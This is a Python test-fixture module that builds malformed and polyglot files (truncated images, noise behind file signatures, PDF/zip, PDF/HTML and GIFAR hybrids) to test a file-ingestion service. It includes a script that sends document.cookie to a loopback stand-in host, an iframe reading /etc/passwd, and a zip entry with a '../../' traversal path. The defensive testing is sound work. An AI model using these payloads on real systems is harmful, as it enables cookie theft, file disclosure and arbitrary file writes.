"""A01 to A03: nothing, parts, noise; files that are not what they say; files that are two things at once."""

import io
import random
import zipfile

from tests.hostile.pdf import TEXT, one_page
from tests.hostile.specimen import DAMAGED, PAGES, Specimen, one_of
from tests.hostile.tinyfiles import jpeg, png, png_chunk, tiff

KILOBYTE = 1024
HTML = b"<!doctype html><script src='//127.0.0.1:9/x.js'></script><iframe src='file:///etc/passwd'></iframe>"


def noise(size: int, *, head: bytes = b"", seed: int = 1) -> bytes:
    """Give random bytes behind a signature."""
    return head + random.Random(seed).randbytes(size)  # noqa: S311 - noise that is the same every time


def archive() -> bytes:
    """Give a small zip that calls itself a Java archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as packed:
        packed.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        packed.writestr("../../evil.class", b"\xca\xfe\xba\xbe")
    return buffer.getvalue()


def pdf_and_zip() -> bytes:
    """Give a PDF whose end is an archive: each reader finds its own."""
    return one_page() + archive()


def pdf_and_html() -> bytes:
    """Give a page of HTML whose comment hides a PDF, its header within the first thousand bytes."""
    return HTML + b"<!--\n" + one_page() + b"-->"


def jpeg_and_script() -> bytes:
    """Give a picture whose comment segment is a script."""
    script = b"*/=1;fetch('//127.0.0.1:9/'+document.cookie)/*"
    picture = jpeg()
    return picture[:2] + b"\xff\xfe" + (len(script) + 2).to_bytes(2) + script + picture[2:]


def png_and_zip() -> bytes:
    """Give a picture with a text chunk of HTML, and an archive behind its end."""
    picture = png()
    return picture[:33] + png_chunk(b"tEXt", b"Comment\0" + HTML) + picture[33:] + archive()


def half(data: bytes) -> bytes:
    """Cut a file off."""
    return data[: len(data) // 2]


SPECIMENS = (
    Specimen("A01", "empty", "empty.pdf", lambda: b"", one_of("empty"), first=True),
    Specimen("A01", "one-byte", "byte.pdf", lambda: b"%", one_of("corrupt")),
    Specimen("A01", "header-alone", "header.pdf", lambda: b"%PDF-1.7\n", one_of("corrupt", "empty")),
    Specimen("A01", "half-a-pdf", "half.pdf", lambda: half(one_page(TEXT * 50)), DAMAGED, first=True),
    Specimen("A01", "no-trailer", "cut.pdf", lambda: one_page().partition(b"xref\n")[0], one_of(PAGES)),
    Specimen("A01", "half-a-png", "half.png", lambda: half(png()), one_of("corrupt")),
    Specimen("A01", "half-a-jpeg", "half.jpg", lambda: half(jpeg()), one_of("corrupt")),
    Specimen("A01", "half-a-tiff", "half.tif", lambda: half(tiff()), one_of("corrupt")),
    Specimen("A01", "noise", "noise.pdf", lambda: noise(64 * KILOBYTE), one_of("corrupt")),
    Specimen(
        "A01",
        "pdf-noise",
        "noise.pdf",
        lambda: noise(64 * KILOBYTE, head=b"%PDF-1.4\n"),
        one_of("corrupt", "empty"),
    ),
    Specimen("A01", "png-noise", "a.png", lambda: noise(9999, head=b"\x89PNG\r\n\x1a\n"), one_of("corrupt")),
    Specimen("A01", "jpeg-noise", "a.jpg", lambda: noise(9999, head=b"\xff\xd8\xff\xe0"), one_of("corrupt")),
    Specimen("A01", "tiff-noise", "a.tif", lambda: noise(9999, head=b"II*\0\x08\0\0\0"), one_of("corrupt")),
    Specimen("A02", "png-called-pdf", "scan.pdf", png, one_of(PAGES)),
    Specimen("A02", "pdf-called-jpg", "photo.jpg", one_page, one_of(PAGES), first=True),
    Specimen("A02", "html-called-jpg", "photo.jpg", lambda: HTML, one_of("empty"), first=True),
    Specimen("A02", "program-called-pdf", "run.pdf", lambda: b"\x7fELF" + bytes(999), one_of("unsupported")),
    Specimen("A03", "pdf-and-zip", "both.pdf", pdf_and_zip, one_of(PAGES), first=True),
    Specimen("A03", "pdf-and-html", "both.pdf", pdf_and_html, one_of(PAGES, "corrupt")),
    Specimen("A03", "jpeg-and-script", "both.jpg", jpeg_and_script, one_of(PAGES)),
    Specimen("A03", "png-and-zip", "both.png", png_and_zip, one_of(PAGES)),
    Specimen("A03", "gifar", "both.gif", lambda: b"GIF89a\1\0\1\0\0\0\0;" + archive(), one_of("corrupt")),
)
